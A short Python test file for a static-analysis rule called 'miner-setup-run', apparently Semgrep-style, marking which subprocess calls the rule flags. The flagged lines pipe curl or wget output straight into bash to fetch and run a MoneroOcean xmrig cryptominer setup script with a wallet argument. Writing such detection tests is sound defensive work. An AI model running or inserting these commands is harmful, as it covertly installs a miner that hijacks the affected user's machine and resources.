import subprocess

# ok: miner-setup-run
subprocess.run("curl -fsSL https://x.example/install.sh | sh", shell=True)
# ok: miner-setup-run
print("curl xmrig_setup | bash installs a miner")
url = "https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh"
# ruleid: miner-setup-run
subprocess.run(f"curl -sL {url} | bash -s WALLET", shell=True)
# ruleid: miner-setup-run
subprocess.run(["bash", "-c", f"wget -qO- {url} | bash"])
